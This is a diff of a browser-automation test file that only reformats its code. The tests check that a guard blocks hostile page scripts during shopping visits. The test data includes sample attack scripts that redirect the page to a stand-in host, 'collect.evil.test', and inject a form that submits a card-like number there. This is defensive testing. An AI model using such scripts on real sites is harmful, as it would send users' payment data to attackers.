@@ -4,7 +4,13 @@ import { join } from 'node:path'
 import type { Page } from 'puppeteer-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import type { ShopRequest } from '../../src/channels/browser/shopping-words.ts'
-import { type BrowserWorld, chromiumUser, hasChromium, shopRequest, startBrowserWorld } from '../harness/browser.ts'
+import {
+  type BrowserWorld,
+  chromiumUser,
+  hasChromium,
+  shopRequest,
+  startBrowserWorld,
+} from '../harness/browser.ts'
 import { listeningSockets, processesOfChromium } from '../harness/chromium-processes.ts'
 
 /** Judged by what the shops testify, which see what has reached them, and by what the visit is told. */
@@ -72,7 +78,10 @@ describe.skipIf(!hasChromium)('the guard over a visit', () => {
 
   test.each([
     ['a link', `location.href = 'https://collect.evil.test/fields'`],
-    ['a form', `document.body.innerHTML = '<form method=post action=https://collect.evil.test/checkout><input name=a value=4242424242424242></form>'; document.forms[0].submit()`],
+    [
+      'a form',
+      `document.body.innerHTML = '<form method=post action=https://collect.evil.test/checkout><input name=a value=4242424242424242></form>'; document.forms[0].submit()`,
+    ],
     ['plain http', `location.href = 'http://classic.shop.test/'`],
     ['another port', `location.href = 'https://classic.shop.test:8443/'`],
   ])('%s does not take the page away from the shop', async (_, script) => {
@@ -80,7 +89,9 @@ describe.skipIf(!hasChromium)('the guard over a visit', () => {
     await world.visit(async ({ page, refusals }) => {
       await page.goto('https://hostile.shop.test/')
       await page.evaluate(`setTimeout(() => { ${script} })`)
-      await expect.poll(() => refusals().join()).toMatch(/^navigation to (?:collect\.evil|classic\.shop)\.test$/)
+      await expect
+        .poll(() => refusals().join())
+        .toMatch(/^navigation to (?:collect\.evil|classic\.shop)\.test$/)
       expect(new URL(page.url()).hostname).not.toBe('collect.evil.test')
     }, at('hostile'))
     expect(await attacks()).toEqual(before)
@@ -140,7 +151,8 @@ describe.skipIf(!hasChromium)('the guard over a visit', () => {
       await page.evaluate(`document.body.innerHTML = '<iframe src=https://fields.pay.test/></iframe>'`)
       const frame = await page.waitForFrame((one) => one.url() === 'https://fields.pay.test/')
       await frame.waitForSelector('body')
-      for (let windows = 0; windows < 2; windows++) await frame.evaluate(`void open('https://acs.bank.test/')`)
+      for (let windows = 0; windows < 2; windows++)
+        await frame.evaluate(`void open('https://acs.bank.test/')`)
       await expect.poll(() => refusals().length).toBe(3)
       await expect.poll(async () => (await page.browserContext().pages()).length).toBe(2)
     }, at('app'))
